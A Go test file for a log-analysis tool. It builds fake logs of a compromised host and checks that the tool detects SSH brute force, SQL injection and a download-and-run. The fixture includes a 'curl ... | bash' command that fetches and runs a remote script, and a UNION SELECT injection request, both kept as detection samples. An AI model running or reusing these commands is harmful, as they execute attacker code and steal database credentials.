package logs

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/yingji/yingji/internal/event"
	"github.com/yingji/yingji/internal/testcorpus"
	"github.com/yingji/yingji/rules"
)

// fixtureRoot writes a small compromised host's logs: a brute force
// spread over a rotated, compressed auth.log and the live one, ending in
// a login; an SQL injection in the access log; a download-and-run in
// root's history.
func fixtureRoot(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	var old, cur bytes.Buffer
	for i := 0; i < 8; i++ {
		fmt.Fprintf(&old, "Mar  1 02:00:%02d web sshd[%d]: Failed password for root from 203.0.113.9 port %d ssh2\n", i*3, 1000+i, 40000+i)
	}
	for i := 8; i < 14; i++ {
		fmt.Fprintf(&cur, "Mar  1 02:00:%02d web sshd[%d]: Failed password for invalid user admin from 203.0.113.9 port %d ssh2\n", i*3, 1000+i, 40000+i)
	}
	cur.WriteString("Mar  1 02:01:30 web sshd[2000]: Accepted password for root from 203.0.113.9 port 41000 ssh2\n")
	cur.WriteString("Mar  1 02:05:00 web sshd[2001]: Accepted publickey for deploy from 198.51.100.4 port 41001 ssh2: RSA SHA256:abc\n")
	var gz bytes.Buffer
	w := gzip.NewWriter(&gz)
	w.Write(old.Bytes())
	w.Close()
	files := map[string][]byte{
		"var/log/auth.log.2.gz": gz.Bytes(),
		"var/log/auth.log.1":    nil,
		"var/log/auth.log":      cur.Bytes(),
		"var/log/nginx/access.log": []byte(`203.0.113.20 - - [01/Mar/2026:02:10:00 +0800] "GET /item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users HTTP/1.1" 200 512 "-" "Mozilla/5.0"` + "\n" +
			`198.51.100.7 - - [01/Mar/2026:02:11:00 +0800] "GET / HTTP/1.1" 200 1024 "-" "Mozilla/5.0"` + "\n"),
		"root/.bash_history": []byte("#1772330000\ncd /tmp\n#1772330010\ncurl -fsSL http://203.0.113.5/x.sh | bash\n"),
	}
	for name, data := range files {
		write(t, root, name, data)
	}
	// The rotated copies are older than the live file.
	mt := time.Date(2026, 3, 1, 3, 0, 0, 0, time.UTC)
	for _, n := range []string{"var/log/auth.log.2.gz", "var/log/auth.log.1", "var/log/auth.log"} {
		os.Chtimes(filepath.Join(root, n), mt, mt)
	}
	return root
}

func TestAnalyze(t *testing.T) {
	root := fixtureRoot(t)
	set, err := rules.SigmaSet()
	if err != nil {
		t.Fatal(err)
	}
	fsys := os.DirFS(root)
	files, errs := Find(fsys)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	loc := time.FixedZone("CST", 8*3600)
	fs, results := Analyze(context.Background(), fsys, files, set, Options{Location: loc}, nil)
	var events int64
	for _, r := range results {
		if r.Err != nil {
			t.Errorf("%s: %v", r.File.Path, r.Err)
		}
		events += r.Events
	}
	if events != 8+6+2+2+2 {
		t.Errorf("%d events, want 20", events)
	}
	got := map[string]string{}
	for _, f := range fs {
		got[f.Rule] = f.Description
	}
	for _, rule := range []string{"log.ssh_bruteforce", "log.ssh_bruteforce_success"} {
		if !strings.Contains(got[rule], "src_ip=203.0.113.9") {
			t.Errorf("%s: %q", rule, got[rule])
		}
	}
	// The brute force spans the compressed copy and the live file: 14
	// failures, counted across the rotation.
	if !strings.Contains(got["log.ssh_bruteforce"], "14 event(s)") {
		t.Errorf("brute force count: %q", got["log.ssh_bruteforce"])
	}
	titles := map[string]bool{}
	for _, f := range fs {
		titles[f.Title] = true
	}
	for _, want := range []string{"SQL injection attempt", "Download piped into a shell", "SSH login as root"} {
		if !titles[want] {
			t.Errorf("no %q finding; got %v", want, titles)
		}
	}
	for _, f := range fs {
		if strings.Contains(f.Description, "198.51.100") {
			t.Errorf("the legitimate traffic was reported: %s: %s", f.Title, f.Description)
		}
	}
}

// TestAnalyzeElasticAuthLog runs the detections on a real server's
// auth.log (elastic/examples): an Internet-facing sshd under constant
// password guessing.
func TestAnalyzeElasticAuthLog(t *testing.T) {
	dir := testcorpus.Path(t, "logs/elastic-examples")
	set, err := rules.SigmaSet()
	if err != nil {
		t.Fatal(err)
	}
	fsys := os.DirFS(dir)
	files := []File{{Path: "auth.log", Kind: KindSyslog, Set: "auth.log", ModTime: time.Date(2017, 12, 31, 0, 0, 0, 0, time.UTC)}}
	fs, results := Analyze(context.Background(), fsys, files, set, Options{Location: time.UTC}, nil)
	if results[0].Err != nil {
		t.Fatal(results[0].Err)
	}
	// grep -c . auth.log: 7121 lines, every one an event.
	if results[0].Events != 7121 {
		t.Errorf("%d events, want 7121", results[0].Events)
	}
	var brute, spray int
	for _, f := range fs {
		switch f.Rule {
		case "log.ssh_bruteforce":
			brute++
		case "log.ssh_spraying":
			spray++
		}
		if f.Rule == "log.ssh_bruteforce_success" {
			t.Logf("success after brute force: %s", f.Description)
		}
	}
	if brute == 0 || spray == 0 {
		t.Errorf("brute force findings %d, spraying %d: want both", brute, spray)
	}
	t.Logf("%d findings: %d brute force bursts, %d spraying", len(fs), brute, spray)
	_ = event.SourceSSHD
}
